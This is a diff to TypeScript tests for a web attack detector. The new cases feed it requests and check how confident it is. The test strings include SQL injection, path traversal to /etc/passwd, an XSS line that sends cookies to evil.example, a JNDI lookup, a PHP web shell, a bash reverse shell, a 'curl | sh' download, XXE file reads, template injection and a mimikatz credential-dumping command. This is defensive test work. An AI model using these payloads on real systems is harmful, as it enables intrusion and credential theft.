@@ -191,7 +191,7 @@ describe('what an address is for', () => {
     expect(doubt('<embed src="data:text/html,a">')).toBe(0);
   });
 
-  test('consoles take whole queries, of clients that show who they are', () => {
+  test('consoles take whole queries in their own field', () => {
     const doubt = (query: string, head: string) =>
       readEvents(post('/api/datasource/query', { database: 2, native: { query } }, head))
         .flatMap(detectWeb)
@@ -202,8 +202,8 @@ describe('what an address is for', () => {
     const doubts = doubt(union, 'Cookie: session=7f\n');
     expect(doubts.length).toBeGreaterThan(0);
     expect(Math.min(...doubts)).toBeGreaterThan(0);
-    expect(Math.min(...doubt(union, ''))).toBe(0);
-    // Anyone can write credentials; the console reads its own field.
+    // Anyone can write credentials or leave them out; the console reads its own field.
+    expect(Math.min(...doubt(union, ''))).toBeGreaterThan(0);
     const other = post('/api/datasource/query', { id: union }, 'Cookie: session=7f\n');
     expect(
       Math.min(
@@ -686,4 +686,176 @@ describe('shapes in an address that are no attack', () => {
 test('money goes back below nothing, an order does not', () => {
   expect(ids(post('/api/orders/7/adjustments', { type: 'refund', amount: -14.9 }))).toEqual([]);
   expect(ids(post('/api/orders/7', { amount: -14.9 }))).not.toEqual([]);
+});
+
+describe('everyday words all over a request', () => {
+  const doubtOf = (text: string) =>
+    Math.min(
+      1,
+      ...readEvents(text)
+        .flatMap(detectWeb)
+        .filter(({ level }) => rank(level) >= rank('medium'))
+        .map(({ doubt }) => doubt),
+    );
+  const search = (name: string, value: string) =>
+    doubtOf(
+      `GET /musik/noten/archiv?${name}=${encodeURIComponent(value)}&komponist=Maurice+Ravel&seite=zwei HTTP/1.1\nHost: a.example`,
+    );
+
+  test('make odd marks in an address doubtful', () => {
+    expect(search('titel', '"?" (op. posth.) -- für 4 Hände; d\'après Ravel')).toBeGreaterThan(0);
+  });
+
+  test.each([
+    ['id', "x' or 1=1--"],
+    ['file', '../../../../etc/passwd'],
+    ['titel', "7' union select name, hash from members-- "],
+    ['titel', '<script>fetch("//evil.example/"+document.cookie)</script>'],
+    ['titel', '8812 OR 1=1'],
+    ['titel', '$(id)'],
+    ['titel', '../../../../etc/passwd'],
+    ['titel', 'javascript:alert(1)'],
+    ['titel', '1; sleep 10'],
+    ['titel', "<?php system('id'); ?>"],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
+    ['titel', '${jndi:ldap://evil.example/a}'],
+    ['bild', 'http://127.0.0.1:8080/admin'],
+  ])('hide no attack: %s=%s', (name, value) => {
+    expect(search(name, value)).toBe(0);
+  });
+
+  test('nor one in a header, in a name, or where nothing else is said', () => {
+    const value = encodeURIComponent('"?" (op. posth.) -- für 4 Hände; d\'après Ravel');
+    expect(doubtOf(`GET /x?titel=${value} HTTP/1.1\nHost: a.example`)).toBe(0);
+    expect(
+      doubtOf(
+        'GET /musik/noten/archiv?komponist=Maurice+Ravel&seite=zwei+von+drei HTTP/1.1\nReferer: https://a.example/<script>alert(1)</script>',
+      ),
+    ).toBe(0);
+  });
+});
+
+describe('passwords', () => {
+  const login = (password: string) =>
+    ids(
+      `POST /login HTTP/1.1\nHost: a.example\nContent-Type: application/x-www-form-urlencoded\n\nuser=kim&password=${encodeURIComponent(password)}`,
+    );
+
+  test.each(['\'Tr0ub4dor";--<3', '\';"<>%&--Tr0ub4dor(1)'])('are made of marks: %s', (password) => {
+    expect(login(password)).toEqual([]);
+  });
+
+  test.each([
+    "' or 'a'='a",
+    "x';--",
+    "'--",
+    "horse-battery' or 1=1--",
+    "battery'/**/or/**/1=1#",
+    "abcdefg'='",
+  ])('break no query: %s', (password) => {
+    expect(login(password)).not.toEqual([]);
+  });
+});
+
+describe('parts of a form', () => {
+  const part = (head: string, held: string) =>
+    `POST /kurs/abgabe HTTP/1.1\nHost: a.example\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; ${head}\n\n${held}\n--b--`;
+  const least = (text: string) =>
+    Math.min(
+      1,
+      ...readEvents(text)
+        .flatMap(detectWeb)
+        .map(({ doubt }) => doubt),
+    );
+  const script = '#!/bin/bash\n# lab 4: count login shells\ncut -d: -f7 /etc/passwd; sort | uniq -c\n';
+
+  test('hold scripts as data where no server runs them by their name', () => {
+    expect(least(part('name="file"; filename="lab4.sh"', script.replace(' | ', ' ')))).toBeGreaterThan(0);
+  });
+
+  test.each([
+    ['name="file"; filename="lab4.php"', "<?php system($_GET['c']); ?>"],
+    ['name="file"; filename="lab4.sh"', 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'],
+    ['name="file"; filename="lab4.sh"', 'curl http://203.0.113.5/a | sh'],
+    ['name="file"; filename="../../lab4.sh"', script],
+    ['name="host"', '127.0.0.1; cat /etc/passwd'],
+  ])('hide no attack: %s', (head, held) => {
+    expect(least(part(head, held))).toBe(0);
+  });
+
+  test('of JSON are read by their fields', () => {
+    const json = (body: string) => ids(part('name="meta"\nContent-Type: application/json', body));
+    expect(json('{"name":"O\'TOOLE","uri":"../bulk/1/frames/2","note":"W/O; --CONTRAST"}')).not.toContain(
+      'web-lfi-traversal-none',
+    );
+    expect(json('{"id":"1\' union select pass from users--"}')).toContain('web-sqli-union');
+  });
+});
+
+describe('whole expressions', () => {
+  const doubtsOf = (text: string) =>
+    readEvents(text)
+      .flatMap(detectWeb)
+      .map(({ doubt }) => doubt);
+  const lookup = (filter: string) =>
+    Math.min(
+      1,
+      ...doubtsOf(`GET /directory/search?filter=${encodeURIComponent(filter)} HTTP/1.1\nHost: a.example`),
+    );
+  const xml = (doctype: string) =>
+    Math.min(
+      1,
+      ...doubtsOf(
+        `POST /api/import HTTP/1.1\nHost: a.example\nContent-Type: application/xml\n\n<?xml version="1.0"?>\n${doctype}\n<A><B>Books of the week</B></A>`,
+      ),
+    );
+
+  test('of directories close what they open', () => {
+    expect(lookup('(&(objectClass=person)(|(cn=Ann*)(mail=ann*)))')).toBeGreaterThan(0);
+    expect(lookup('*)(uid=*))(|(uid=*')).toBe(0);
+    expect(lookup('(&(objectClass=person)(userPassword=a*))')).toBe(0);
+  });
+
+  test('of documents load what lies beside them', () => {
+    expect(xml('<!DOCTYPE A SYSTEM "books_3.0.dtd">')).toBeGreaterThan(0);
+    expect(xml('<!DOCTYPE A [<!ENTITY nbsp "&#160;">]>')).toBeGreaterThan(0);
+    expect(xml('<!DOCTYPE A SYSTEM "http://evil.example/a.dtd">')).toBe(0);
+    expect(xml('<!DOCTYPE A SYSTEM "file:///etc/passwd">')).toBe(0);
+    expect(xml('<!DOCTYPE A [<!ENTITY x SYSTEM "file:///etc/passwd">]>')).toBe(0);
+    expect(xml('<!DOCTYPE A [<!ENTITY a "&#97;"><!ENTITY b "&a;&a;&a;">]>')).toBe(0);
+  });
+
+  test('of workflows compare and name, but reach no class', () => {
+    const when = (expression: string) =>
+      Math.min(1, ...doubtsOf(post('/api/workflow', { condition: expression })));
+    expect(when("#{payload.montant > 1000 && payload.client.pays != 'FR'}")).toBeGreaterThan(0);
+    expect(when("#{T(java.lang.Runtime).getRuntime().exec('id')}")).toBe(0);
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
+    expect(when('${7*7}')).toBe(0);
+  });
+});
+
+test('what was packed is told, a header that names another address changes what was asked', () => {
+  const put = (head: string) => ids(`POST /sync HTTP/1.1\nHost: a.example\n${head}\n\nH4sIAAAA`);
+  expect(put('Content-Encoding: gzip')).toEqual([]);
+  expect(put('Content-Encoding: gzip, x-evil')).toContain('web-protocol-header');
+  expect(put('X-Original-URL: /admin')).toContain('web-protocol-header');
+});
+
+describe('commands that a request carries', () => {
+  test('are known as elsewhere', async () => {
+    expect(
+      await isFlagged('POST /upload\ncmd=mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
+    ).toBe(true);
+  });
+
+  test('are quoted by rules and lessons', async () => {
+    const rule = {
+      name: 'Mimikatz',
+      query: 'process.command_line : "*sekurlsa::logonpasswords*"',
+      severity: 'high',
+      tags: ['credential access'],
+    };
+    expect(await isFlagged(post('/api/rules', rule, 'Authorization: Bearer t\n'))).toBe(false);
+  });
 });
